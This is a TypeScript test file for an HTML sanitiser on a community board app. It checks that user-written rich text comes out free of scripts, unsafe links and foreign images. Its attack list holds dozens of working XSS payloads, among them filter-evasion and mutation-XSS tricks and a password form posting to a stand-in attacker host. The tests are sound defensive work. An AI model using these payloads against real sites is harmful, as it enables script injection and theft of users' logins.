import naughty from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };
import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import * as v from 'valibot';
import { describe, expect, it, test } from 'vitest';
import { RichNode, richTags } from '#contract/rich-text.ts';
import { sanitised } from './rich-text.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<p>a<script>alert(1)</script >b</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="/photos/x-400.webp" onerror="alert(1)">',
  '<img src="/photos/x-400.webp"onload=alert(1)>',
  '<img/src="/photos/x-400.webp"/onload=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="/\t/evil.example/pixel.gif">',
  '<img src="/photos/../v1/users/me">',
  '<img src="/v1/auth/log-out">',
  '<img srcset="https://evil.example/x 1x" src="/photos/x-400.webp">',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://ondol.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https:/\\evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
  '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p id="root" name="root" class="root">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example"</style>',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button>x</button></form>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE x>',
  '<p>\u0000<scr\u0000ipt>alert(1)</script>',
];

const allowed: Record<string, RegExp> = {
  href: /^(?:https?:\/\/[\w]|mailto:|tel:|\/(?![/\\\s]))/i,
  src: /^\/photos\/[\w.-]+$/,
  alt: /^[^]*$/,
};

describe('a board text that attacks its readers', () => {
  const expectClosed = (attack: string) => {
    const { nodes, html } = sanitised(attack);
    expect(nodes.flatMap(problems), attack).toEqual([]);
    expect(
      nodes.every((node) => v.is(RichNode, node)),
      attack,
    ).toBe(true);
    expect(markupProblems(parseFragment(html)), attack).toEqual([]);
    expect(sanitised(html).html, `${attack} read again means the same`).toBe(html);
  };
  it.each(attacks)('comes out closed: %s', expectClosed);

  // Those of the OWASP cheat sheet on filter evasion are among them.
  it('comes out closed with every string of a public list, wherever it stands', () => {
    expect(naughty.filter((each) => /<script|javascript:|onerror/i.test(each)).length).toBeGreaterThan(100);
    for (const each of naughty)
      for (const attack of [each, `<p>${each}</p>`, `<a href="${each}">x</a>`, `<img alt='x' src='${each}'>`])
        expectClosed(attack);
  });

  it('loses what scripts and styles say, and keeps the words of other elements', () => {
    expect(sanitised('<p>a<script>b</script><style>c</style><u>d</u></p>').nodes).toEqual([
      { tag: 'p', children: ['a', 'd'] },
    ]);
  });

  it.each([200, 50_000])('breaks nothing by being deep: %i levels', (levels) => {
    const { nodes } = sanitised(`${'<b></x>'.repeat(levels)}deep`.slice(0, 99_000));
    expect(depthOf(nodes)).toBeLessThanOrEqual(33);
    expect(sanitised('<blockquote>'.repeat(8000)).nodes).toEqual([]);
  });

  it('is not read where no person would', () => {
    expect(sanitised(`<p>${'long '.repeat(20_001)}</p>`)).toEqual({ nodes: [], html: '' });
  });
});

test('what the editor offers stays as it was written', () => {
  const text =
    '<h2>How</h2><h3>Where</h3><p>Bring <strong>gloves</strong> &#x26; <em>tea</em>,<br>or <b>not</b> <i>that</i></p><ul><li>One</li></ul><ol><li>Two</li></ol><blockquote>Three</blockquote>';
  expect(sanitised(text).html).toBe(text);
  expect(sanitised('<p>Tom &amp; Jin &lt;3 &#44608;&#xCE58;</p>').nodes).toEqual([
    { tag: 'p', children: ['Tom & Jin <3 김치'] },
  ]);
});

test('links lead to the web, a mailbox, a telephone or a page of ours; without an address their words stay', () => {
  for (const href of [
    'https://ondol.example/?a=1&b=2',
    'mailto:hi@ondol.example',
    'tel:+8227771234',
    '/faq',
  ]) {
    const { nodes } = sanitised(`<a href="${href.replace('&', '&amp;')}">map</a>`);
    expect(nodes).toEqual([{ tag: 'a', href, children: ['map'] }]);
  }
  expect(sanitised('<a href="ftp://x">map</a>').nodes).toEqual(['map']);
});

test('pictures are those of the host, with their description', () => {
  const figure =
    '<figure><img src="/photos/lounge-dinner-800.webp" alt="A long table"><figcaption>Us</figcaption></figure>';
  expect(sanitised(figure)).toEqual({
    html: figure,
    nodes: [
      {
        tag: 'figure',
        children: [
          { tag: 'img', src: '/photos/lounge-dinner-800.webp', alt: 'A long table' },
          { tag: 'figcaption', children: ['Us'] },
        ],
      },
    ],
  });
  expect(sanitised('<img src="https://elsewhere.example/x.png" alt="x">').nodes).toEqual([]);
});

function problems(node: RichNode): string[] {
  if (typeof node === 'string') return [];
  const { tag, children = [], ...attributes } = node;
  return [
    ...(richTags.includes(tag) ? [] : [tag]),
    ...attributeProblems(Object.entries(attributes)),
    ...children.flatMap(problems),
  ];
}

type Markup = DefaultTreeAdapterMap['node'];

function markupProblems(node: Markup): string[] {
  if (node.nodeName === '#text') return [];
  const own =
    'attrs' in node
      ? [
          ...(richTags.some((tag) => tag === node.tagName) ? [] : [node.tagName]),
          ...attributeProblems(node.attrs.map(({ name, value }) => [name, value])),
        ]
      : [];
  return [...own, ...('childNodes' in node ? node.childNodes.flatMap(markupProblems) : [])];
}

function attributeProblems(attributes: [string, string | undefined][]): string[] {
  return attributes.flatMap(([name, value = '']) => (allowed[name]?.test(value) ? [] : [`${name}=${value}`]));
}

function depthOf(nodes: RichNode[]): number {
  return Math.max(
    0,
    ...nodes.map((node) => (typeof node === 'string' ? 0 : 1 + depthOf(node.children ?? []))),
  );
}
